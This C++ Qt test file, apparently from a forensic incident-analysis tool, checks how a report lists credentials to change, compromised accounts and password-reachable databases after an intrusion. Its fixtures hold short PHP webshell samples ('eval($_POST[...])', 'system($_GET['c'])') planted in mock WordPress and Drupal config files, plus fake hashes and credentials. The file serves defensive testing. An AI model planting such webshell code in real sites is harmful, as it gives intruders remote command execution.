// What must be changed, whose rights a transfer shows, and databases behind passwords that could be read.
#include <QFile>
#include <QTemporaryDir>

#include "report/build.hpp"
#include "report/entities.hpp"
#include "report/exposure.hpp"
#include "report/format.hpp"
#include "support/case_fixture.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

namespace {

constexpr const char* k_hash = "$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4rE6wQ8z";

std::int64_t keep(test::CaseFixture& fixture, const char* parser, const char* path, const std::string& bytes, std::uint32_t mode = 0644, std::uint32_t uid = 0) {
    test::FileSpec spec;
    spec.path = path, spec.bytes = bytes, spec.mode = mode, spec.uid = uid, spec.gid = uid, spec.content_type = "text/plain";
    return fixture.add_parsed(parser, spec);
}

void fill_machine(test::CaseFixture& fixture, const std::string& shadow = {}) {
    keep(fixture, "passwd", "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nmartina:x:1000:1000::/home/martina:/bin/bash\nlinmei:x:1001:1001::/home/linmei:/bin/bash\n");
    keep(fixture, "group", "/etc/group", "root:x:0:\nsudo:x:27:linmei,martina\nwww-data:x:33:\nmartina:x:1000:\nlinmei:x:1001:\n");
    keep(fixture, "shadow", "/etc/shadow", shadow.empty() ? std::string("root:*:1::::::\nmartina:") + k_hash + ":20000:0:99999:7:::\nlinmei:" + k_hash + "x:20000:0:99999:7:::\n" : shadow, 0640);
}

void tell(test::CaseFixture& fixture, const char* id, const char* rule, std::int64_t inode, const char* key, const char* arguments = "{}") {
    fixture.sql(std::string("INSERT INTO finding VALUES('") + id + "', 'd', '" + rule + "', 1, 1, 's', 3, 1, '" + arguments + "', 1710000000, 0, 2, NULL, NULL, 1, 0)");
    fixture.sql(std::string("INSERT INTO finding_item(finding, place, inode, key) VALUES('") + id + "', 1, " + (inode == 0 ? "NULL" : std::to_string(inode)) + ", " + (key == nullptr ? "NULL" : "'" + std::string(key) + "'") + ")");
}

// A webshell of the web server's own account.
std::int64_t shell(test::CaseFixture& fixture, const char* rule = "webshell/script", const char* text = "<?php\n$pass = \"Sesam-77x\";\n") {
    test::FileSpec spec;
    spec.path = "/srv/shop/x.php", spec.uid = 33, spec.gid = 33, spec.bytes = text, spec.content_type = "text/x-php";
    const auto inode = fixture.add_parsed("credentials", spec);
    tell(fixture, "aaaaaaaaaaaaaaaa", rule, inode, nullptr);
    return inode;
}

report::Report report_of(const test::CaseFixture& fixture, const char* language = "en") {
    const auto view = case_file::View::open(fixture.path());
    const auto texts = report::Texts::load(language);
    auto model = report::build_report(*view, *texts, {});
    if (!model) qFatal("%s", model.error().what.c_str());
    return *std::move(model);
}

QStringList rows(const report::Exposure& exposure) {
    QStringList all;
    for (const auto& c : exposure.credentials) all << QString::fromStdString(c.kind + " " + c.account + ": " + c.why);
    return all;
}

}  // namespace

class ExposedCredentialsTest : public QObject {
    Q_OBJECT
private slots:
    // Files that an intruder's address fetched with an account: it was his.
    void a_transfer_shows_the_account() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        shell(fixture);
        test::FileSpec home;
        home.path = "/home/martina/kunden.csv", home.mode = 0600, home.uid = 1000, home.gid = 1000, home.bytes = std::string(700, 'x');
        fixture.add(home);
        tell(fixture, "bbbbbbbbbbbbbbbb", "exfiltration/transfer", 0, "203.0.113.77", "{\"who\": \"203.0.113.77\", \"user\": \"ftp, martina\"}");
        const auto e = report_of(fixture).exposure;
        QStringList rights;
        for (const auto& right : e.rights) rights << QString::fromStdString(right.user);
        QCOMPARE(rights, QStringList({"www-data", "martina"}));
        QVERIFY(QString::fromStdString(e.rights[1].why).startsWith("Files were fetched with the account martina"));
        QVERIFY2(rows(e).contains("account_password martina: used by the intruder"), qPrintable(rows(e).join('\n')));
        QVERIFY(!rows(e).join('\n').contains("linmei"));
        QCOMPARE(e.areas.size(), std::size_t{2});
        QCOMPARE(QString::fromStdString(e.areas[0].id), QString("homes"));
        QCOMPARE(e.areas[0].files, std::int64_t{1});
    }
    // More in one file than are listed: the section says so.
    void a_cut_list_says_so_data() {
        QTest::addColumn<int>("lines");
        QTest::addColumn<bool>("cut");
        QTest::newRow("few") << 3 << false;
        QTest::newRow("many") << 400 << true;
    }
    void a_cut_list_says_so() {
        QFETCH(int, lines);
        QFETCH(bool, cut);
        test::CaseFixture fixture;
        fill_machine(fixture);
        shell(fixture);
        std::string text;
        for (int i = 0; i < lines; ++i) text += "password = Geheim" + std::to_string(1000 + i) + "\n";
        keep(fixture, "credentials", "/etc/app/app.conf", text);
        const auto view = case_file::View::open(fixture.path());
        const auto texts = report::Texts::load("en");
        QTemporaryDir folder;
        const auto model = report_of(fixture);
        QVERIFY(report::write_report({model, *view, *texts}, "html", folder.path().toStdString()));
        QFile file(folder.path() + "/report.html");
        QVERIFY(file.open(QIODevice::ReadOnly));
        const auto html = file.readAll();
        QVERIFY(html.contains("Credentials that must be changed"));
        const auto at = html.indexOf("The list is not whole");
        QCOMPARE(at >= 0, cut);
        if (cut) QVERIFY2(html.mid(at, 400).contains("more credentials in one file than are listed"), html.mid(at, 400).constData());
    }
    void one_file_is_no_files() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        fixture.event("file.download", 1'772'352'000, "bob", "198.51.100.7", "{\"bytes\": 700}");
        QVERIFY(QString::fromStdString(report_of(fixture).exposure.text).contains("have one record of data that was given out"));
        QVERIFY(QString::fromStdString(report_of(fixture, "de").exposure.text).contains("verzeichnen eine Herausgabe von Daten"));
    }
    // What an item's key is says its detector; of a case from before that, its look.
    void keys_have_kinds() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        tell(fixture, "bbbbbbbbbbbbbbbb", "exfiltration/transfer", 0, "jan.vogt");
        fixture.sql("UPDATE finding_item SET key_kind = 'account'");
        fixture.sql("INSERT INTO finding_item(finding, place, key, key_kind) VALUES('bbbbbbbbbbbbbbbb', 2, 'client', 'client')");
        const auto entities = [&] {
            QStringList all;
            for (const auto& one : report::entities_of(report_of(fixture))) all << QString::fromStdString(one.kind + " " + one.name);
            return all;
        };
        QVERIFY2(entities().contains("account jan.vogt") && entities().contains("other client"), qPrintable(entities().join('\n')));
        fixture.sql("ALTER TABLE finding_item DROP COLUMN key_kind");
        QVERIFY2(entities().contains("other jan.vogt") && entities().contains("account client"), qPrintable(entities().join('\n')));
    }
    // One that may be the account's owner shows nothing.
    void a_doubtful_transfer_shows_no_account() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        tell(fixture, "bbbbbbbbbbbbbbbb", "exfiltration/transfer", 0, "203.0.113.77", "{\"user\": \"martina\"}");
        fixture.sql("UPDATE finding SET severity = 2, confidence = 0");
        QVERIFY(report_of(fixture).exposure.rights.empty());
    }
    void an_open_account_that_was_used() {
        test::CaseFixture fixture;
        fill_machine(fixture, "linmei::20000:0:99999:7:::\n");
        tell(fixture, "aaaaaaaaaaaaaaaa", "correlation/open_account_used", 0, "accounts/empty_password: linmei", "{\"user\": \"linmei\"}");
        const auto e = report_of(fixture).exposure;
        QCOMPARE(e.rights.size(), std::size_t{2});  // root too, through sudo
        QVERIFY(rows(e).contains("no_password linmei: no password is asked for where a service allows an empty one (sshd: not unless it was set so)"));
    }
    void a_guessed_password_must_be_changed() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        tell(fixture, "aaaaaaaaaaaaaaaa", "ssh/brute_force_success", 0, "martina");
        const auto e = report_of(fixture).exposure;
        QVERIFY(rows(e).contains("account_password martina: used by the intruder"));
        QCOMPARE(e.rights.front().user, std::string("root"));  // through sudo, unlike one who only fetched files
    }

    void accounts_without_a_password_data() {
        QTest::addColumn<QByteArray>("passwd");
        QTest::addColumn<QByteArray>("shadow");
        QTest::addColumn<bool>("listed");
        const QByteArray hash = k_hash;
        QTest::newRow("empty in shadow") << QByteArray("toor:x:0:0::/root:/bin/bash\n") << QByteArray("toor::20000:0:99999:7:::\n") << true;
        QTest::newRow("empty in passwd") << QByteArray("toor::0:0::/root:/bin/bash\n") << QByteArray("root:*:1::::::\n") << true;
        QTest::newRow("locked") << QByteArray("toor:x:0:0::/root:/bin/bash\n") << QByteArray("toor:!:20000:0:99999:7:::\n") << false;
        QTest::newRow("with one") << QByteArray("toor:x:0:0::/root:/bin/bash\n") << "toor:" + hash + ":20000:0:99999:7:::\n" << false;
        QTest::newRow("of nobody's") << QByteArray("toor:x:99:99::/:/usr/sbin/nologin\n") << QByteArray("toor::20000:0:99999:7:::\n") << false;
        QTest::newRow("with one in passwd") << "toor:" + hash + ":0:0::/root:/bin/bash\n" << QByteArray("toor::20000:0:99999:7:::\n") << false;
    }
    void accounts_without_a_password() {
        QFETCH(QByteArray, passwd);
        QFETCH(QByteArray, shadow);
        QFETCH(bool, listed);
        test::CaseFixture fixture;
        keep(fixture, "passwd", "/etc/passwd", passwd.toStdString() + "www-data:x:33:33::/var/www:/usr/sbin/nologin\n");
        keep(fixture, "shadow", "/etc/shadow", shadow.toStdString(), 0640);
        shell(fixture);
        const auto e = report_of(fixture).exposure;
        QCOMPARE(rows(e).contains("no_password toor: no password is asked for where a service allows an empty one (sshd: not unless it was set so)"), listed);
        if (!listed) return;
        QCOMPARE(e.credential_count, std::int64_t{1});
        QCOMPARE(e.credentials[0].title, std::string("Account without a password: lock it or set one"));
        QCOMPARE(report_of(fixture, "de").exposure.credentials[0].title, std::string("Konto ohne Passwort: sperren oder eines setzen"));
    }
    void nothing_must_be_changed_on_a_healthy_machine() {
        test::CaseFixture fixture;
        fill_machine(fixture, "martina::20000:0:99999:7:::\n");
        QVERIFY(report_of(fixture).exposure.credentials.empty());
    }

    // The webshell's password is the intruder's; that of a page with his code in it is the site's.
    void the_intruders_own_password_is_not_listed() {
        test::CaseFixture own;
        fill_machine(own);
        shell(own);
        QVERIFY2(rows(report_of(own).exposure).isEmpty(), qPrintable(rows(report_of(own).exposure).join('\n')));
        for (const char* rule : {"webshell/dual_use", "webshell/resembling", "webshell/in_image"}) {
            test::CaseFixture other;
            fill_machine(other);
            const auto inode = shell(other, rule);
            other.sql("UPDATE finding SET severity = 2, confidence = 0");  // by itself it shows nobody
            other.sql("INSERT INTO finding VALUES('bbbbbbbbbbbbbbbb', 'd', 'rootkit/preload', 1, 1, 's', 3, 1, '{}', 1710000000, 0, 2, NULL, NULL, 1, 0)");
            other.sql("INSERT INTO finding_item(finding, place, inode) VALUES('bbbbbbbbbbbbbbbb', 1, " + std::to_string(inode) + ")");
            QVERIFY(!report_of(other).exposure.rights.empty());
            QVERIFY2(rows(report_of(other).exposure).filter("Sesam").isEmpty() && report_of(other).exposure.credentials.empty(), rule);
        }
        test::CaseFixture phones_home;
        fill_machine(phones_home);
        shell(phones_home, "webshell/script", "<?php eval($_POST['z']);\n$token = \"512345678:AAH4kq0ZbXu2Tn5vW8yRc3dE6fG9hJ1kL0m\";\n$pass = \"Sesam-77x\";\n");
        QVERIFY2(rows(report_of(phones_home).exposure).isEmpty(), qPrintable(rows(report_of(phones_home).exposure).join('\n')));
        test::CaseFixture page;
        fill_machine(page);
        shell(page, "webshell/appended");
        QCOMPARE(report_of(page).exposure.credentials.size(), std::size_t{1});
    }

    // Code in the site's settings makes what they hold no less the site's.
    void infected_settings_are_the_sites_data() {
        QTest::addColumn<QByteArray>("path");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QStringList>("settings");
        QTest::newRow("WordPress") << QByteArray("/srv/shop/wp-config.php") << QByteArray("<?php @eval($_POST['zz']);\ndefine('DB_USER','wp');\ndefine('DB_PASSWORD','Gh77kLpQ2x');\ndefine('AUTH_KEY','kq0ZbXu2Tn5vW8yRc3dE6fG9hJ1kL0mQ7sA4');\n") << QStringList{"DB_PASSWORD", "AUTH_KEY"};
        QTest::newRow("Drupal") << QByteArray("/srv/shop/settings.php") << QByteArray("<?php system($_GET['c']);\n$databases['default']['default']=['database'=>'d','username'=>'u','password'=>'Tt99mmKLq','host'=>'localhost'];\n") << QStringList{"password"};
        QTest::newRow("an include") << QByteArray("/srv/shop/inc/db.php") << QByteArray("<?php include '/tmp/.x/a.ico';\n$db_password='Rr11mmKLq';\n$smtp_password='Mm22nnKLq';\n") << QStringList{"db_password", "smtp_password"};
        QTest::newRow("by its name") << QByteArray("/srv/shop/Config.inc.php") << QByteArray("<?php eval($_POST['b']);\n$smtp_password='Mm22nnKLq';\n") << QStringList{"smtp_password"};
    }
    void infected_settings_are_the_sites() {
        QFETCH(QByteArray, path);
        QFETCH(QByteArray, text);
        QFETCH(QStringList, settings);
        test::CaseFixture fixture;
        fill_machine(fixture);
        const auto inode = keep(fixture, "credentials", path.constData(), text.toStdString(), 0640, 33);
        tell(fixture, "aaaaaaaaaaaaaaaa", "webshell/script", inode, nullptr);
        QStringList listed;
        for (const auto& c : report_of(fixture).exposure.credentials) listed << QString::fromStdString(c.setting);
        QCOMPARE(listed, settings);
    }

    // An account that the intruder made is removed: its password is none to be changed.
    void the_intruders_own_account_is_not_listed() {
        test::CaseFixture fixture;
        fill_machine(fixture, std::string("evil:") + k_hash + ":20000:0:99999:7:::\nmartina:" + k_hash + "x:20000:0:99999:7:::\n");
        keep(fixture, "credentials", "/etc/shadow-", std::string("evil:") + k_hash + "y:20000:0:99999:7:::\n");
        shell(fixture);
        fixture.sql("UPDATE finding SET rule = 'rootkit/preload'");
        fixture.sql("UPDATE inode SET uid = 0");
        tell(fixture, "bbbbbbbbbbbbbbbb", "accounts/uid_zero_twin", 0, "evil", "{\"user\": \"evil\"}");
        const auto report = report_of(fixture);
        const auto& e = report.exposure;
        QVERIFY2(rows(e).join('\n').contains("account_password martina"), qPrintable(rows(e).join('\n')));
        QVERIFY2(!rows(e).join('\n').contains("evil"), qPrintable(rows(e).join('\n')));
        QCOMPARE(e.intruder_accounts.size(), std::size_t{1});
        QCOMPARE(e.intruder_accounts[0].user, std::string("evil"));
        QCOMPARE(e.intruder_accounts[0].finding, std::string("bbbbbbbbbbbbbbbb"));
        fixture.sql("UPDATE finding SET severity = 2 WHERE id = 'bbbbbbbbbbbbbbbb'");  // an administrator's, perhaps
        QVERIFY(rows(report_of(fixture).exposure).join('\n').contains("evil"));
        QVERIFY(report_of(fixture).exposure.intruder_accounts.empty());
    }

    void databases_data() {
        QTest::addColumn<QByteArray>("settings");
        QTest::addColumn<QByteArray>("title");
        QTest::addColumn<bool>("here");
        QTest::addColumn<int>("files");
        const char* form = "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shopadmin');\ndefine('DB_PASSWORD', 'Zang3n&Co');\n";
        const auto row = [&](const char* host, const char* title, bool here, int files) {
            QTest::newRow(host) << QByteArray(form) + "define('DB_HOST', '" + host + "');\n" << QByteArray(title) << here << files;
        };
        const char* local = "The database 'shop' on this machine (user shopadmin), through the password in /srv/shop/wp-config.php";
        row("localhost", local, true, 1);
        row("127.0.0.1:3306", local, true, 1);
        row("localhost:/run/mysqld/mysqld.sock", local, true, 1);
        row("[::1]", local, true, 1);
        row("db.internal.example:3306", "The database 'shop' on db.internal.example (user shopadmin), through the password in /srv/shop/wp-config.php", false, 0);
        row("web1.example.org", "The database 'shop' on web1.example.org (user shopadmin), through the password in /srv/shop/wp-config.php", false, 0);
        row("web1", "The database 'shop' on web1 (user shopadmin), through the password in /srv/shop/wp-config.php", true, 1);
        row("10.0.0.7", "The database 'shop' on 10.0.0.7 (user shopadmin), through the password in /srv/shop/wp-config.php", true, 1);
        row("10.0.0.8", "The database 'shop' on 10.0.0.8 (user shopadmin), through the password in /srv/shop/wp-config.php", false, 0);
        QTest::newRow("no host, no name") << QByteArray("<?php\n$db_pass = 'Zang3n&Co';\n") << QByteArray("Databases on a host that the file does not name, through the password in /srv/shop/wp-config.php") << false << 0;
        QTest::newRow("a name with a sign") << QByteArray("<?php\ndefine('DB_NAME', 'my-shop');\ndefine('DB_PASSWORD', 'Zang3n&Co');\ndefine('DB_HOST', 'localhost');\n")
            << QByteArray("The database 'my-shop' on this machine, through the password in /srv/shop/wp-config.php") << true << 1;
        QTest::newRow("a database that is not there") << QByteArray("<?php\ndefine('DB_NAME', 'gone');\ndefine('DB_PASSWORD', 'Zang3n&Co');\ndefine('DB_HOST', 'localhost');\n")
            << QByteArray("The database 'gone' on this machine, through the password in /srv/shop/wp-config.php") << true << 0;
    }
    void databases() {
        QFETCH(QByteArray, settings);
        QFETCH(QByteArray, title);
        QFETCH(bool, here);
        QFETCH(int, files);
        test::CaseFixture fixture;
        fill_machine(fixture);
        shell(fixture);
        fixture.row("system_fact", {std::string_view("host.name"), std::string_view("web1"), std::string_view("/etc/hostname"), std::int64_t{1}});
        fixture.row("system_fact", {std::string_view("network.address"), std::string_view("10.0.0.7/24"), std::string_view("/etc/network/interfaces"), std::int64_t{1}});
        fixture.sql("UPDATE system_fact SET system = 1");
        keep(fixture, "credentials", "/srv/shop/wp-config.php", settings.toStdString());
        for (const char* path : {"/var/lib/mysql/shop/orders.ibd", "/var/lib/mysql/my@002dshop/orders.ibd", "/var/lib/mysql/mysql/user.frm"}) {
            test::FileSpec table;
            table.path = path, table.mode = 0640, table.uid = 105, table.bytes = std::string(3000, 'x');
            fixture.add(table);
        }
        fixture.sql("UPDATE inode SET mode = 448 WHERE id = (SELECT id FROM directory WHERE path = '/var/lib/mysql')");
        const auto area = report_of(fixture).exposure.areas.at(0);
        QCOMPARE(QString::fromStdString(area.id), QString("databases_by_password"));
        QCOMPARE(QByteArray::fromStdString(area.title), title);
        QCOMPARE(area.here, here);
        QCOMPARE(area.files, std::int64_t{files});
        QVERIFY(QString::fromStdString(report_of(fixture, "de").exposure.areas[0].title).startsWith("Datenbanken auf ") || QString::fromStdString(report_of(fixture, "de").exposure.areas[0].title).startsWith("Die Datenbank '"));
    }
    // The same database behind two files is one.
    void a_database_behind_two_files() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        shell(fixture);
        keep(fixture, "credentials", "/srv/shop/.env", "DATABASE_URL=mysql://shopadmin:Zang3n-Co@db.example.org/shop\n");
        keep(fixture, "credentials", "/srv/shop/wp-config.php", "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shopadmin');\ndefine('DB_PASSWORD', 'Zang3n&Co');\ndefine('DB_HOST', 'db.example.org');\n");
        const auto e = report_of(fixture).exposure;
        QCOMPARE(std::count_if(e.areas.begin(), e.areas.end(), [](const auto& area) { return area.id == "databases_by_password"; }), 1);
        QVERIFY2(e.areas[0].title.ends_with("/srv/shop/.env (and 1 more)"), e.areas[0].title.c_str());
    }
    // Cases that were filled before have no columns for it.
    void a_case_of_an_older_topic() {
        test::CaseFixture fixture;
        fill_machine(fixture);
        shell(fixture);
        keep(fixture, "credentials", "/srv/shop/.env", "DB_HOST=db.example.org\nDB_PASSWORD=Zang3n-Co\n");
        fixture.sql("ALTER TABLE credential DROP COLUMN host");
        fixture.sql("ALTER TABLE credential DROP COLUMN \"database\"");
        const auto e = report_of(fixture).exposure;
        QCOMPARE(e.credentials.size(), std::size_t{1});
        QVERIFY(e.credentials[0].host.empty());
    }
};
DEADBOX_TEST(ExposedCredentialsTest)
#include "exposed_credentials_test.moc"
